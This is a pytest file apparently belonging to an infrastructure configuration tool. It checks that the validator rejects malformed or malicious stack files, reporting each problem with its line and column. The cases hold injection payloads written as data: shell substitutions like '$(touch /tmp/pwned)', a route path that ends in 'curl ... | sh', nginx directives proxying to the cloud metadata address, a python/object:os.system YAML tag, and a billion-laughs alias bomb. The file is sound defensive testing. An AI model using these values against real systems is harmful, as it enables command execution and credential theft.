"""Every case of the robustness and injection review, as a fixed case of the fuzz suite's oracle:
exit 0 with nothing injected in what `build` writes, or exit 2 with one clean line per problem
at its line and column. Ids follow the review's numbering."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.fuzz import exercise, scratch

S = "name: shop\nservices:\n  web: {port: 80}\n"
P1 = "environments: {prod: {phase: 1}}\n"

# id → (stack, what the one problem says and where; None: it builds and the audit passes)
CASES: dict[str, tuple[str, tuple[str, str] | None]] = {
    "1a-domain-shell": (
        "name: shop\ndomain: 'x$(touch /tmp/pwned).example.com'\nservices:\n  web: {port: 8080}\n"
        + P1,
        (":2:9:", "is not a domain name"),
    ),
    "1a-env-domain-shell": (
        S + "environments: {prod: {phase: 1, domain: 'a$(id).example.com'}}\n",
        (":4:", "not a domain name"),
    ),
    "1b-path-heredoc": (
        S + '  api: {port: 9000, path: "/api/*\\nNGINX\\ncurl -s https://a.example/x | sh"}\n' + P1,
        (":4:27:", "is not a route"),
    ),
    "1c-secret-name-shell": (
        "name: shop\nservices:\n  web: {port: 8080, uses: ['k;touch /tmp/pwned;']}\n"
        "secrets: ['k;touch /tmp/pwned;']\n" + P1,
        (":4:", "is not a usable secret name"),
    ),
    "2-image-expression": (
        "name: shop\nservices:\n"
        "  web: {port: 80, image: 'public.ecr.aws/x/y:${file(\"/etc/hostname\")}'}\n",
        (":3:26:", "is not an image reference"),
    ),
    "2-image-quote": (
        "name: shop\nservices:\n"
        "  web: {port: 80, image: 'docker.io/library/nginx:1.27\", user = \"0'}\n",
        (":3:26:", "is not an image reference"),
    ),
    "2-image-directive": (
        "name: shop\nservices:\n  web: {port: 80, image: 'SWX1%{SWX2}'}\n",
        (":3:26:", "is not a repository name"),
    ),
    "2-image-nul": (
        'name: shop\nservices:\n  web: {port: 80, image: "SWX1\\0SWX2"}\n',
        (":3:26:", "is not a repository name"),
    ),
    "2-image-host-template": (
        "name: shop\nservices:\n  web: {port: 80, image: 'nginx${file(\"/etc/hostname\")}'}\n" + P1,
        (":3:26:", "is not an image reference"),
    ),
    "3-secret-name-hcl": (S + "secrets: ['my key.x']\n", (":4:", "usable secret name")),
    "3-secret-name-template": (S + "secrets: ['k${file(\"/e\")}']\n", (":4:", "secret name")),
    "3-secret-name-long": (S + "secrets: [" + "k" * 600 + "]\n", (":4:", "at most 64")),
    "4-path-nginx": (
        S + "  api: {port: 9000, path: '/api { proxy_pass http://169.254.169.254/; } "
        "location /x'}\n" + P1,
        (":4:27:", "is not a route"),
    ),
    "4-domain-nginx": (
        "name: shop\ndomain: 'example.com; } server { listen 8080; } #'\nservices:\n"
        "  web: {port: 80}\n" + P1,
        (":2:9:", "is not a domain name"),
    ),
    "5-secret-literal": (
        "name: shop\nservices:\n  web:\n    port: 8080\n"
        "    environment: {DB_PASSWORD: hunter2, STRIPE_API_KEY: sk_live_123}\n",
        (":5:19:", "DB_PASSWORD looks like a secret"),
    ),
    "6-trailing-newline-name": (
        'name: "shop\\n"\nservices: {web: {port: 80}}\n',
        (":1:7:", "name"),
    ),
    "6-trailing-newline-service": (
        'name: shop\nservices:\n  "web\\n": {port: 80}\n',
        (":3:3:", "is not a usable name"),
    ),
    "6-trailing-newline-env": (S + 'environments: {"prod\\n": {}}\n', (":4:", "usable name")),
    "6-long-names": (
        "name: mind-the-wait\nservices: {" + "a" * 40 + ": {}}\n",
        None,  # fitted to IAM's 64 characters with a hash
    ),
    "6-long-names-40-40-40": (
        f"name: {'n' * 40}\nservices:\n  {'s' * 40}: {{port: 80, uses: [postgres, files]}}\n"
        f"postgres: {{}}\nbuckets: {{files: {{}}}}\nenvironments: {{{'e' * 40}: {{phase: 4}}}}\n",
        None,
    ),
    "6-truncation-collision": (
        "name: riverside-transit-headway-monitors\nservices:\n  web: {port: 8080, uses: "
        "[redis, search]}\nredis: {}\nsearch: {}\nenvironments: {prod: {phase: 3}, "
        "staging: {phase: 3}}\n",
        None,  # unique per environment, no trailing hyphen
    ),
    "6-double-hyphen": ("name: shop--\nservices: {web: {port: 80}}\n", (":1:7:", "usable name")),
    "6-trailing-hyphen-service": (
        "name: shop\nservices: {web-: {port: 80}}\n",
        (":2:12:", "usable name"),
    ),
    "6-domain-empty-label": (
        S + "environments: {staging: {domain: a..b}}\n",
        (":4:", "is not a domain name"),
    ),
    "6-domain-idn": ("name: shop\ndomain: exämple.com\n" + S[11:], (":2:9:", "xn--exmple-cua")),
    "6-cidr-ipv6": (S + "topology: {cidr: 'fd00::/8'}\n", (":4:18:", "IPv4 block")),
    "6-cidr-slash-8": (S + "topology: {cidr: 10.0.0.0/8}\n", (":4:18:", "/16 to a /19")),
    "6-image-upper-case": (
        "name: shop\nservices:\n  web: {port: 80, image: MyApp}\n",
        (":3:26:", "repository name"),
    ),
    "7-bootstrap-environment": (
        S + "environments: {prod: {}, bootstrap: {}}\n",
        (":4:26:", "'bootstrap' is reserved"),
    ),
    "8-environment-on-host": (
        "name: shop\nservices:\n  web: {port: 80, environment: {GREETING: hi}}\n"
        "environments: {prod: {phase: 1}, staging: {phase: 2}}\n",
        None,
    ),
    "10-escape-in-key": (
        'name: shop\n"\\e[2J\\e]0;pwned\\a": 1\nservices:\n  web: {port: 80}\n',
        (":2:1:", "unknown key '\\x1b[2J\\x1b]0;pwned\\x07'"),
    ),
    "11-health-check-shell": (
        "name: shop\nservices:\n  web: {port: 8080, health_check: '/h;touch /tmp/p'}\n",
        (":3:35:", "not a health-check path"),
    ),
    "11-tag-on-mapping": (
        "name: shop\nservices: !!python/object:os.system {web: {port: 80}}\n",
        (":2:11:", "tag !!python/object:os.system is not allowed"),
    ),
    "C1-host-bits": (S + "topology: {cidr: 10.0.0.1/16}\n", (":4:18:", "host bits set")),
    "C1-not-a-block": (S + "topology: {cidr: foo}\n", (":4:18:", "not an IPv4 block")),
    "C1-bad-octet": (S + "topology: {cidr: 300.0.0.0/16}\n", (":4:18:", "not an IPv4 block")),
    "C1-too-small": (S + "topology: {cidr: 10.0.0.0/27}\n", (":4:18:", "/16 to a /19")),
    "C1-tiny": (S + "topology: {cidr: 10.0.0.0/30}\n", (":4:18:", "/16 to a /19")),
    "C2-inf": (S + "usage: {data_out_gb: .inf}\n", (":4:22:", "not a finite number")),
    "C2-1e308": (S + "usage: {data_out_gb: 1e308}\n", (":4:22:", "less than or equal")),
    "C2-1e999": (S + "usage: {data_out_gb: 1e999}\n", (":4:22:", "finite number")),
    "C2-42-digits": (S + f"usage: {{requests_per_month: {'9' * 42}}}\n", (":4:", "too long")),
    "C2-bucket-inf": (S + "buckets: {b: {expected_gb: .inf}}\n", (":4:", "finite number")),
    "C3-budget-inf": (S + "budget: {monthly_usd: .inf}\n", (":4:23:", "finite number")),
    "C4-threshold-nan": (
        S + "postgres: {}\nalarms: {thresholds: {db_free_storage: .nan}}\n",
        (":5:", "not a finite number"),
    ),
    "C5-4301-digits": (
        "name: shop\nservices: {web: {port: 80, count: " + "1" * 4301 + "}}\n",
        (":2:", "far too long"),
    ),
    "C6-recursive-alias": (S + "x: &a {b: *a}\n", (":4:11:", "refers to a value that contains")),
    "C6-recursive-uses": (
        "name: shop\nservices:\n  web: &w {port: 80, uses: [*w]}\n",
        (":3:29:", "refers to a value that contains"),
    ),
    "C7-nesting-1000": (S + "x: " + "[" * 1000 + "]" * 1000 + "\n", (":4:", "nested more")),
    "C7-nesting-100000": (S + "x: " + "[" * 100000 + "]" * 100000 + "\n", (":4:", "nested")),
    "H1-billion-laughs": (
        S
        + "x-lol0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
        + "".join(f"x-lol{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 10)}]\n" for i in range(1, 7)),
        (":", "aliases expand this file to more than 100,000 values"),
    ),
    "F1-line-100": (S + "#\n" * 96 + "oops: 1\n", (":100:1:", "unknown key 'oops'")),
    "F2-newline-in-key": ('name: shop\n"a\\nb": 1\n' + S[11:], (":2:1:", "unknown key 'a\\nb'")),
    "F2-newline-in-uses": (
        'name: shop\nservices:\n  web: {port: 80, uses: ["a\\nb"]}\n',
        (":3:26:", "'a\\nb' is not defined"),
    ),
    "F3-nul": (S + 'x: "\0"\n', (":4:5:", "the character U+0000")),
}


@pytest.mark.parametrize("case", list(CASES), ids=list(CASES))
def test_review_case(case: str) -> None:
    text, expected = CASES[case]
    with scratch() as folder:
        outcome = exercise(text, Path(folder))
        validate = outcome.runs["validate"]
        if expected is None:
            assert validate.code == 0 and outcome.out is not None, validate.stderr
            return
        where, says = expected
        assert validate.code == 2
        lines = validate.stderr.splitlines()
        assert any(where in line and says in line for line in lines), lines
